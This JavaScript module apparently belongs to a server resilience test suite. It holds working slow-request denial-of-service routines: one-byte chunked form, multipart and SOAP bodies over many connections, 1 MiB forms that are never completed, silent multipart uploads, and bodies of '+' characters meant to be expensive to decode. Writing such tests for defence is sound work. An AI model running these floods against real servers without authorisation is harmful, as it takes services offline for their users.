// Attacks with request bodies: tiny chunks, silent clients, and bytes that are expensive to decode.
import { Buffer } from 'node:buffer';
import { finish, formats, head, open, write } from './sockets.js';

const tokens = '/tokens/generateToken';
const megabyte = 1024 * 1024;

/** Sends a body in chunks of one byte on several connections, and then waits. */
async function sendTinyChunks(baseUrl, { connections, path, contentType, start = '', bytes }) {
  const all = await Promise.all(Array.from({ length: connections }, () => open(baseUrl)));
  const block = Buffer.from('1\r\na\r\n'.repeat(10_000));
  await Promise.all(
    all.map(async (connection) => {
      const first = start === '' ? '' : `${start.length.toString(16)}\r\n${start}\r\n`;
      await write(connection, head(path, { contentType }) + first);
      for (let sent = 0; sent < bytes; sent += 10_000) await write(connection, block);
    }),
  );
  return finish(all, 5);
}

const field = '--b\r\nContent-Disposition: form-data; name="username"\r\n\r\n';

export const bodyAttacks = {
  'form in 1-byte chunks, 3 × 1,000,000': ({ baseUrl }) =>
    sendTinyChunks(baseUrl, { connections: 3, path: tokens, contentType: formats.form, bytes: 1_000_000 }),

  'multipart in 1-byte chunks, 3 × 1,000,000': ({ baseUrl }) =>
    sendTinyChunks(baseUrl, {
      connections: 3,
      path: tokens,
      contentType: formats.multipart,
      start: field,
      bytes: 1_000_000,
    }),

  'SOAP in 1-byte chunks, 200 × 10,000': ({ baseUrl }) =>
    sendTinyChunks(baseUrl, {
      connections: 200,
      path: '/services',
      contentType: formats.soap,
      bytes: 10_000,
    }),

  'forms of 1 MiB that never end, 400': async ({ baseUrl }) => {
    const all = await Promise.all(Array.from({ length: 400 }, () => open(baseUrl)));
    const body = Buffer.alloc(megabyte - 10, 'a');
    await Promise.all(
      all.map(async (connection) => {
        await write(connection, head(tokens, { contentType: formats.form, length: megabyte }));
        await write(connection, body);
      }),
    );
    return finish(all, 5);
  },

  'silent multipart forms, 64': async ({ baseUrl }) => {
    const all = await Promise.all(Array.from({ length: 64 }, () => open(baseUrl)));
    for (const connection of all)
      await write(connection, head(tokens, { contentType: formats.multipart, length: megabyte }) + field);
    return finish(all, 3);
  },

  'forms of 1 MiB of +, 40': async ({ baseUrl }) => {
    const all = await Promise.all(Array.from({ length: 40 }, () => open(baseUrl)));
    const body = Buffer.from(`zzz=${'+'.repeat(megabyte - 100)}`);
    for (const connection of all) {
      await write(connection, head(tokens, { contentType: formats.form, length: body.length }));
      await write(connection, body);
    }
    return finish(all, 10);
  },
};
